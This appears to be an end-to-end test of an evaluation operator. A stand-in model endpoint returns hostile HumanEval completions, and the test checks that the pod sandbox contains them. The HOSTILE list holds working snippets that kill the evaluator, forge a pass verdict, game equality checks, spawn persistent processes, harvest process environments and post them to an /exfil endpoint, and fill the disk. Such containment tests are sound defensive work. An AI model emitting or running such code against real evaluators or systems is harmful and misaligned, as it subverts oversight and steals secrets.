"""The eval pod as the cluster runs it, scoring an endpoint whose completions are hostile.

The endpoint is a test double for a model (an OpenAI-compatible server on this machine) that
answers every HumanEval prompt with a program trying to forge its verdict or escape: the
EvalRun must still run through, score 0, say how its sandbox isolated them (in the pod's
sandbox container), and leave the operator and the node's processes standing.
"""

from __future__ import annotations

import glob
import itertools
import json
import os
from typing import Any

from aiohttp import web

from e2e.cluster import ControlPlane
from e2e.node_agent import TestNodeAgent
from e2e.operator_local import ChartOperator, wait_phase

from serving import serve_app

MARK = f"{31500 + os.getpid() % 1000}"
ESCAPE = f"/tmp/nanochat-e2e-escape-{MARK}"  # the host's /tmp: a program that writes here got out
HOSTILE = [
    # kill the evaluator (the sandbox's parent) and whatever else it can name
    "    import posix, signal\n    posix.kill(posix.getppid(), signal.SIGKILL)\n    posix.kill(1, signal.SIGKILL)\n",
    # report "passed" through the runner's own channel, then leave before any check
    "    return None\nimport gc, os\nfor o in gc.get_objects():\n    if callable(o) and getattr(o, '__name__', '') == "
    "'send':\n        o({'loaded': True})\nos._exit(0)\n",
    # an answer equal to everything
    "    class Eq:\n        def __eq__(self, other):\n            return True\n    return Eq()\n",
    # a detached child that outlives the evaluator's kill
    "    import posix\n    if posix.fork() == 0:\n        posix.setsid()\n        posix.execv('/bin/sleep', "
    f"['sleep', '{MARK}.5'])\n",
    # read every process's environment and the files it can name, and post them to the model
    # server listening on loopback ({port}: the endpoint's, filled in when it answers)
    "    import os, urllib.request\n    loot = {}\n    for pid in os.listdir('/proc'):\n        try:\n"
    "            loot[pid] = open(f'/proc/{{pid}}/environ', 'rb').read().decode(errors='replace')\n"
    "        except OSError:\n            pass\n"
    "    urllib.request.urlopen('http://127.0.0.1:{port}/exfil', data=repr(loot).encode(), timeout=3)\n",
    # write outside its own /tmp, and fill the disk with many files
    f"    open('{ESCAPE}', 'w').write('out')\n    i = 0\n    while True:\n"
    f"        open(f'/tmp/nanochat-e2e-fill-{MARK}-{{i}}', 'w').write('x' * 4096)\n        i += 1\n",
]


def hostile_model(exfiltrated: list[bytes]) -> web.Application:
    answers = itertools.cycle(HOSTILE)

    async def completions(request: web.Request) -> web.Response:
        body = await request.json()
        n = int(body.get("n") or 1)
        port = request.url.port
        choices = [
            {"index": i, "text": next(answers).replace("{port}", str(port)), "finish_reason": "stop"} for i in range(n)
        ]
        return web.json_response({"id": "x", "object": "text_completion", "model": body["model"], "choices": choices})

    async def exfil(request: web.Request) -> web.Response:
        exfiltrated.append(await request.read())
        return web.json_response({})

    async def health(_: web.Request) -> web.Response:
        return web.json_response({"ok": True})

    app = web.Application()
    app.add_routes([web.post("/v1/completions", completions), web.post("/exfil", exfil), web.get("/health", health)])
    return app


def test_hostile_completions_are_contained_in_the_eval_pod(
    control_plane: ControlPlane, operator: ChartOperator, node_agent: TestNodeAgent, namespace: str
) -> None:
    exfiltrated: list[bytes] = []
    url, stop = serve_app(hostile_model(exfiltrated))
    try:
        evalrun: dict[str, Any] = {
            "apiVersion": "nanochat.io/v1alpha1",
            "kind": "EvalRun",
            "metadata": {"name": "hostile", "namespace": namespace},
            "spec": {
                "model": {"endpoint": {"url": f"{url}/v1", "model": "hostile"}},
                "maxProblems": 8,
                "maxNewTokens": 64,
                "resources": {"gpus": 0},
            },
        }
        control_plane.apply(evalrun)
        ev = wait_phase(control_plane, "evalrun", "hostile", {"Succeeded", "Failed"}, 300, namespace, operator)
    finally:
        stop()
    status = ev["status"]
    pod = control_plane.get("pods", "-n", namespace, "-l", "batch.kubernetes.io/job-name=hostile-eval")["items"][0]
    log = node_agent.pod_log(namespace, pod["metadata"]["name"])[-2000:]
    assert status["phase"] == "Succeeded", f"{json.dumps(status)}\n{log}"
    assert status["scores"] == {"pass@1": 0.0} and status["problems"] == 8
    # The programs ran in the pod's sandbox container (the agent starts native sidecars), which
    # put them in namespaces of their own: the agent's host permits them.
    assert status["sandboxIsolation"] == "container/namespaces"
    assert operator.proc is not None and operator.proc.poll() is None  # the operator still runs
    survivors = [p for p in os.listdir("/proc") if p.isdigit() and f"{MARK}.5" in _cmdline(p)]
    assert not survivors
    assert not exfiltrated  # the listening server on loopback was out of reach
    assert not os.path.exists(ESCAPE) and not glob.glob(f"/tmp/nanochat-e2e-fill-{MARK}-*")
    policy = control_plane.get("networkpolicy", "hostile-eval", "-n", namespace)
    assert policy["spec"]["egress"][1]["ports"] == [{"port": int(url.rsplit(":", 1)[1]), "protocol": "TCP"}]


def _cmdline(pid: str) -> str:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""
